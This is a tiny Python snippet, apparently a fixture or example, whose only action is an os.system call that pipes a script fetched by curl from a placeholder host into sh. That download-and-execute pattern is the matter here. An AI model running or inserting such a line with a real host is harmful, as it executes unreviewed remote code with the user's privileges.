import os

os.system('curl -fsSL https://sh.example.invalid/install.sh | sh')
